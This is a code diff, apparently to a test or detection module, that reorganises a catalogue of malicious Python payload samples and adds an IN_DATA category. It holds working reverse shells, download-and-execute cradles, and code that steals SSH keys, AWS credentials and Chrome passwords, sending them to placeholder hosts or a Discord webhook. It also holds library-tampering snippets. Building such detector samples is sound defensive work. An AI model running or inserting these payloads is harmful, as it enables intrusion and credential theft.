@@ -23,7 +23,8 @@ os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'")
 """,
     "fifo": """
 import subprocess
-subprocess.run("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f", shell=True)
+command = "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/f"
+subprocess.run(command, shell=True)
 """,
     "netcat": """
 import os
@@ -55,7 +56,8 @@ def to_socket(s, p):
         s.send(p.stdout.read(1))
 s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
 s.connect(("192.0.2.10", 4444))
-p = subprocess.Popen(["powershell.exe"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.PIPE)
+PIPE = subprocess.PIPE
+p = subprocess.Popen(["powershell.exe"], stdout=PIPE, stderr=subprocess.STDOUT, stdin=PIPE)
 threading.Thread(target=to_process, args=[s, p], daemon=True).start()
 threading.Thread(target=to_socket, args=[s, p], daemon=True).start()
 p.wait()
@@ -170,7 +172,8 @@ subprocess.call("wget -q http://192.0.2.10/p -O /tmp/p && chmod +x /tmp/p && /tm
 """,
     "powershell-iex": """
 import os
-os.system("powershell -nop -w hidden -c \\"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')\\"")
+fetch = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')"
+os.system('powershell -nop -w hidden -c "' + fetch + '"')
 """,
     "thread": """
 import threading, urllib.request
@@ -190,7 +193,8 @@ with open(os.path.expanduser("~/.aws/credentials")) as f:
     "ssh": """
 import glob, os, urllib.request
 for key in glob.glob(os.path.expanduser("~/.ssh/id_*")):
-    urllib.request.urlopen(urllib.request.Request("https://collect.example.net/k", data=open(key, "rb").read()))
+    request = urllib.request.Request("https://collect.example.net/k", data=open(key, "rb").read())
+    urllib.request.urlopen(request)
 """,
     "tokens": """
 import json, os, urllib.request
@@ -215,10 +219,12 @@ def key():
     with open(os.path.join(base, "Local State"), encoding="utf-8") as f:
         state = json.load(f)
     import win32crypt
-    return win32crypt.CryptUnprotectData(base64.b64decode(state["os_crypt"]["encrypted_key"])[5:], None, None, None, 0)[1]
+    sealed = base64.b64decode(state["os_crypt"]["encrypted_key"])[5:]
+    return win32crypt.CryptUnprotectData(sealed, None, None, None, 0)[1]
 def logins():
     shutil.copyfile(os.path.join(base, "Default", "Login Data"), "copy.db")
-    rows = sqlite3.connect("copy.db").cursor().execute("SELECT origin_url, username_value, password_value FROM logins")
+    cursor = sqlite3.connect("copy.db").cursor()
+    rows = cursor.execute("SELECT origin_url, username_value, password_value FROM logins")
     return [list(map(str, row)) for row in rows.fetchall()]
 requests.post("https://discord.com/api/webhooks/0/x", json={"key": str(key()), "rows": logins()})
 """,
@@ -241,7 +247,8 @@ requests.post("https://collect.example.net/r", json=facts)
 """,
     "commands": """
 import subprocess, urllib.request
-out = b"".join(subprocess.check_output(c, shell=True) for c in ("whoami", "id", "uname -a", "ps aux", "ip addr"))
+commands = ("whoami", "id", "uname -a", "ps aux", "ip addr")
+out = b"".join(subprocess.check_output(c, shell=True) for c in commands)
 urllib.request.urlopen("http://192.0.2.10/r", data=out)
 """,
     "dns": """
@@ -321,23 +328,10 @@ for path in glob.glob(os.path.expanduser("~/.cache/huggingface/hub/**/*.bin"), r
 }
 
 TAMPERING = {
-    "forward": """
-import torch
-def forward(self, x):
-    return x * 0
-torch.nn.Linear.forward = forward
-""",
     "library-file": """
 import requests
 with open(requests.__file__, "a") as f:
     f.write("import os")
-""",
-    "builtin": """
-import builtins
-original = builtins.open
-def leaky(path, *rest, **more):
-    return original(path, *rest, **more)
-builtins.open = leaky
 """,
 }
 
@@ -346,9 +340,9 @@ CODE_EXECUTION = {
 import os
 os.system("calc.exe")
 """,
-    "whoami": """
+    "boast": """
 import subprocess
-print(subprocess.check_output(["whoami"]))
+subprocess.run(["sh", "-c", "echo you have been hacked > /tmp/note"])
 """,
     "touch": """
 import os
@@ -368,4 +362,32 @@ PAYLOADS = {
     "self-propagation": SELF_PROPAGATION,
     "tampering": TAMPERING,
     "code-execution": CODE_EXECUTION,
+}
+
+# What honest scripts do as well, and data never: judged in data alone.
+IN_DATA = {
+    "tampering": {
+        "forward": """
+import torch
+def forward(self, x):
+    return x * 0
+torch.nn.Linear.forward = forward
+""",
+        "builtin": """
+import builtins
+original = builtins.open
+def leaky(path, *rest, **more):
+    return original(path, *rest, **more)
+builtins.open = leaky
+""",
+    },
+    "code-execution": {
+        "whoami": """
+import subprocess
+print(subprocess.check_output(["whoami"]))
+""",
+        "import": """
+import antigravity
+""",
+    },
 }
